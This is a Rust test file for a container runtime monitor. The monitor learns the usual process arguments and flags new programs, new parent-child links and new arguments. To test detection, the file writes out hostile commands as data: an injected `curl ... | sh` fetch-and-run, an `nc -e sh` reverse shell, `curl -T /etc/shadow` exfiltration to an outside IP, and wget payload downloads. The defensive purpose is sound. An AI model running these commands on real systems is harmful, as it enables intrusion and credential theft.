//! What known programs are given: what is told of it, and what is not.

use super::*;

/// An hour of work in which these are called: parent, program, arguments with `^` between them.
type Calls<'c> = &'c [(&'c str, &'c str, &'c str)];

impl Stage {
    pub(super) fn call(
        &mut self,
        number: u64,
        (parent, exe, args): (&str, &str, &str),
    ) -> Option<Departure> {
        self.call_as(number, (parent, exe, args), Origin::Init)
    }

    pub(super) fn call_as(
        &mut self,
        number: u64,
        (parent, exe, args): (&str, &str, &str),
        origin: Origin,
    ) -> Option<Departure> {
        let process = process(exe, Some(parent).filter(|it| !it.is_empty()), origin);
        let args = args.replace('^', "\0").into_bytes().into();
        let process = Arc::new(Process { args, ..(*process).clone() });
        self.see(number, Some(&process), &exec(code::IMAGE), None)
    }

    /// Two containers that have called these each hour, for long enough.
    fn called(calls: Calls<'_>) -> Self {
        let mut stage = Self::new();
        (1..=2).for_each(|it| stage.start(it));
        for _ in 0..80 {
            for number in 1..=2 {
                stage.work(number);
                for call in calls {
                    stage.call(number, *call);
                }
            }
            stage.pass(1);
        }
        assert!(stage.is_monitored(Dimension::Arguments));
        stage
    }

    pub(super) fn told(&mut self, call: (&str, &str, &str)) -> Option<Rule> {
        rule(self.call(1, call))
    }
}

pub(super) const NEW: Option<Rule> = Some(Rule::NewArguments);
pub(super) const PYTHON: &str = "/usr/bin/python3.11";
pub(super) const SHELL: &str = "/usr/bin/dash";

#[test]
fn a_shell_that_is_given_another_command_is_told() {
    let convert = (PYTHON, SHELL, "/bin/sh^-c^convert /up/7.png -resize 80x80 /out/7.png");
    let mut stage = Stage::called(&[convert]);
    let benign = (PYTHON, SHELL, "/bin/sh^-c^convert '/up/a b.png' -resize 9x9 /out/1234.png");
    assert_eq!(stage.told(benign), None);
    let evil =
        (PYTHON, SHELL, "/bin/sh^-c^convert /up/7.png; curl -fsS http://198.51.100.66/x | sh");
    let departure = stage.call(1, evil).expect("is told");
    assert_eq!(departure.rule, Rule::NewArguments);
    assert_eq!(departure.object, SHELL);
    let text = stage.baseline.explain(&departure);
    assert!(text.contains("It was given `-c {convert;curl;sh}`."), "{text}");
    assert!(text.contains("Nearest learned: `-c {convert}` (161 units)"), "{text}");
    assert!(text.contains("Not seen in 160 units of 2 containers"), "{text}");
    assert_eq!(rule(stage.call(2, evil)), NEW, "not learned");
    let again = (PYTHON, SHELL, "/bin/sh^-c^convert x; curl y | sh");
    assert_eq!(stage.call(2, again).map(|it| it.fingerprint), Some(departure.fingerprint));
    let other = (PYTHON, SHELL, "/bin/sh^-c^nc -e sh 198.51.100.66 4444");
    assert_ne!(stage.call(2, other).map(|it| it.fingerprint), Some(departure.fingerprint));
}

#[test]
fn a_server_that_is_given_another_configuration_is_told() {
    let reload =
        ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-c^/etc/nginx/nginx.conf^-s^reload");
    let mut stage = Stage::called(&[reload]);
    assert_eq!(stage.told(reload), None);
    let evil = ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-c^/tmp/x.conf^-s^reload");
    assert_eq!(stage.told(evil), NEW);
    let bare = ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-c^/tmp/x.conf");
    assert_eq!(stage.told(bare), NEW);
}

#[test]
fn another_script_and_another_program_are_told_of_an_interpreter() {
    let worker = ("/usr/local/bin/run", PYTHON, "python3^/srv/app/worker.py^--queue=mail^--id=7");
    let check = ("/usr/local/bin/run", PYTHON, "python3^-c^import app; app.check(port=8000)");
    let mut stage = Stage::called(&[worker, check]);
    let twin = ("/usr/local/bin/run", PYTHON, "python3^/srv/app/worker.py^--queue=mail^--id=9124");
    assert_eq!(stage.told(twin), None);
    let twin = ("/usr/local/bin/run", PYTHON, "python3^-c^import app; app.check(port=9000)");
    assert_eq!(stage.told(twin), None);
    let evil = ("/usr/local/bin/run", PYTHON, "python3^/tmp/w.py^--queue=mail^--id=7");
    assert_eq!(stage.told(evil), NEW);
    let evil = ("/usr/local/bin/run", PYTHON, "python3^-c^import os; os.system('id')");
    assert_eq!(stage.told(evil), NEW);
}

#[test]
fn a_new_program_or_edge_is_told_by_its_own_rule_and_never_twice() {
    let reload = ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-s^reload");
    let mut stage = Stage::called(&[reload]);
    let program = ("/usr/local/bin/watch", "/usr/bin/wget", "wget^http://198.51.100.66/x");
    assert_eq!(stage.told(program), Some(Rule::NewTool));
    let edge = ("/app", "/usr/sbin/nginx", "nginx^-c^/tmp/x.conf");
    assert_eq!(stage.told(edge), Some(Rule::NewLineage));
    let inline = ("/usr/local/bin/watch", PYTHON, "python3^-c^import os");
    assert_eq!(stage.told(inline), Some(Rule::NewShell));
}

#[test]
fn what_varies_from_day_to_day_is_not_told() {
    let cron = "/usr/sbin/cron";
    let job = "/opt/jobs/backup.sh";
    let mut stage = Stage::called(&[
        (cron, SHELL, "/bin/sh^-c^/opt/jobs/backup.sh >> /data/backup.log 2>&1"),
        (SHELL, "/usr/bin/date", "date^+%Y%m%dT%H%M%S"),
        (SHELL, "/usr/bin/stat", "stat^-c^%s^/data/backup/shop-20260130T030000.sql.gz"),
        (
            SHELL,
            "/usr/bin/curl",
            "curl^-sS^--max-time^5^-H^X-Token: abc^-d^{\"n\":1}^http://api.test/v1",
        ),
        (SHELL, "/usr/bin/rm", "rm^-f^/data/backup/shop-20260101T030000.sql.gz"),
        (
            "/usr/lib/postgresql/15/bin/postgres",
            SHELL,
            "sh^-c^/usr/local/bin/archive.sh pg_wal/1 1",
        ),
        (SHELL, "/usr/bin/gzip", "gzip^-c^pg_wal/000000010000000000000009"),
        ("/usr/bin/node", "/usr/bin/node", "node^/srv/worker.js^--inspect-port=9230"),
        (
            "/usr/local/bin/sentinel",
            "/usr/bin/redis-server",
            "redis-server^*:7001^--port^7001^--dir^/data/7001",
        ),
    ]);
    for call in [
        (cron, SHELL, "/bin/sh^-c^/opt/jobs/backup.sh >> /data/backup.1.log 2>&1"),
        (SHELL, "/usr/bin/stat", "stat^-c^%s^/data/backup/shop-20270228T235959.sql.gz"),
        (
            SHELL,
            "/usr/bin/curl",
            "curl^-sS^--max-time^8^-H^X-Token: xyz^-d^{\"n\":99}^http://b.test/v2",
        ),
        (
            SHELL,
            "/usr/bin/rm",
            "rm^-f^/data/backup/shop-20270101T030000.sql.gz^/data/backup/shop-20270102T030000.sql.gz",
        ),
        (
            "/usr/lib/postgresql/15/bin/postgres",
            SHELL,
            "sh^-c^/usr/local/bin/archive.sh pg_wal/00A 00A",
        ),
        (SHELL, "/usr/bin/gzip", "gzip^-c^pg_wal/00000001000000000000000A"),
        ("/usr/bin/node", "/usr/bin/node", "node^/srv/worker.js^--inspect-port=9999"),
        (
            "/usr/local/bin/sentinel",
            "/usr/bin/redis-server",
            "redis-server^*:6380^--port^6380^--dir^/data/6380",
        ),
    ] {
        assert_eq!(stage.told(call), None, "{call:?} after {job}");
    }
    let evil = (SHELL, "/usr/bin/curl", "curl^-fsS^-o^/tmp/.x^http://198.51.100.66/x");
    assert_eq!(stage.told(evil), NEW);
}

#[test]
fn what_somebody_who_starts_it_says_is_not_the_images_to_judge() {
    let first = ("", "/usr/bin/redis-server", "redis-server^/etc/redis.conf");
    let under_init =
        ("/usr/bin/tini", "/opt/venv/bin/gunicorn", "gunicorn^-c^/srv/gunicorn.py^app:app");
    let child = (SHELL, "/usr/bin/curl", "curl^-fsS^http://127.0.0.1/healthz");
    let mut stage = Stage::called(&[first, under_init, child]);
    let other = ("", "/usr/bin/redis-server", "redis-server^--save^never^--unlike");
    assert_eq!(stage.told(other), None, "a container is started with it");
    let other = ("/usr/bin/tini", "/opt/venv/bin/gunicorn", "gunicorn^--reload^admin:app");
    assert_eq!(stage.told(other), None, "Docker's init starts it");
    // Health checks are judged as the service is; sessions are not.
    let token = (SHELL, "/usr/bin/curl", "curl^-fsS^http://127.0.0.1/healthz?token=8731");
    assert_eq!(rule(stage.call_as(1, token, Origin::Health)), None);
    let evil = (SHELL, "/usr/bin/curl", "curl^-T^/etc/shadow^http://198.51.100.66/");
    assert_eq!(rule(stage.call_as(1, evil, Origin::Health)), NEW);
    assert_eq!(rule(stage.call_as(1, evil, Origin::Exec)), None);
    assert_eq!(rule(stage.call(1, evil)), NEW);
}

#[test]
fn arguments_of_a_program_that_is_seldom_seen_are_learned_and_not_told() {
    let mut stage = Stage::called(&[(SHELL, "/usr/bin/gzip", "gzip^-f^/data/a")]);
    let (parent, exe) = (SHELL, "/usr/bin/gzip");
    assert_eq!(stage.told((parent, exe, "gzip^--list")), NEW);
    let mut stage = Stage::new();
    (1..=2).for_each(|it| stage.start(it));
    for hour in 0..80 {
        (1..=2).for_each(|it| stage.work(it));
        if hour < 2 {
            stage.call(1, (parent, exe, "gzip^-f^/data/a"));
        }
        stage.pass(1);
    }
    assert_eq!(stage.told((parent, exe, "gzip^--list")), None);
    assert_eq!(stage.told((parent, exe, "gzip^--list")), None, "they are learned");
}

#[test]
fn what_is_unknown_of_the_arguments_is_not_told() {
    let call = (SHELL, "/usr/bin/gzip", "gzip^-f^/data/a");
    let mut stage = Stage::called(&[call]);
    assert_eq!(stage.told((SHELL, "/usr/bin/gzip", "")), None);
    let known = stage.baseline.profiles().iter().find(|it| it.subject.is_image());
    let mut all = Vec::new();
    known.expect("is there").learned[Dimension::Arguments as usize]
        .visit(&mut |scope, key, _| all.push(format!("{scope} {key}")));
    assert_eq!(all, ["/usr/bin/dash > /usr/bin/gzip -f /data/a"]);
}

#[test]
fn arguments_are_denied_and_inherited_as_all_that_is_known() {
    let convert = ("/app", SHELL, "sh^-c^convert x");
    let evil = ("/app", SHELL, "sh^-c^curl x");
    let mut stage = Stage::new();
    (1..=2).for_each(|it| stage.start(it));
    for _ in 0..80 {
        for number in 1..=2 {
            stage.work(number);
            stage.call(number, convert);
        }
        stage.call(2, evil);
        stage.pass(1);
    }
    assert_eq!(rule(stage.call(2, evil)), None, "it is learned");
    let (answer, answered) = crossbeam_channel::bounded(1);
    let act = Act::Deny { container: Some(container(2).id.clone()), since_s: None };
    stage.baseline.carry_out(&Order { whom: "shop/app".to_owned(), act, answer }, 1);
    assert!(answered.recv().is_ok());
    let departure = stage.call(1, ("/app", SHELL, "sh^-c^curl y")).expect("is denied");
    assert_eq!(departure.rule, Rule::NewArguments);
    assert!(stage.baseline.explain(&departure).contains("denied by an operator"));
    stage.start(VERSION + 1);
    assert_eq!(rule(stage.call(VERSION + 1, convert)), None);
    let unseen = ("/app", SHELL, "sh^-c^nc x");
    assert_eq!(rule(stage.call(VERSION + 1, unseen)), None, "the release adds it");
    assert_eq!(stage.told(unseen), NEW, "the version before did not");
}

#[test]
fn a_profile_of_an_agent_that_did_not_look_at_arguments_learns_them_first() {
    let call = (SHELL, "/usr/bin/gzip", "gzip^-f^/data/a");
    let stage = Stage::called(&[call]);
    let settings = Settings::default();
    let mut again = Stage { now_ms: stage.now_ms + 1000, ..Stage::new() };
    for profile in stage.baseline.profiles() {
        let mut saved = Saved::of(profile, &settings, again.now_ms / 1000);
        saved.dimensions.retain(|it| it.dimension != Dimension::Arguments);
        let text = serde_json::to_vec(&saved).expect("writes");
        let saved: Saved = serde_json::from_slice(&text).expect("reads");
        again.baseline.restore(saved.into_profile());
    }
    again.pass(1);
    assert!(!again.is_monitored(Dimension::Arguments) && again.is_monitored(Dimension::Lineage));
    for hour in 0..81 {
        for number in 1..=2 {
            again.work(number);
            again.call(number, (SHELL, "/usr/bin/gzip", "gzip^--list"));
        }
        assert!(hour > 24 || !again.is_monitored(Dimension::Arguments), "{hour}");
        again.pass(1);
    }
    assert!(again.is_monitored(Dimension::Arguments));
    assert_eq!(again.told((SHELL, "/usr/bin/gzip", "gzip^--keep^/x")), NEW);
}
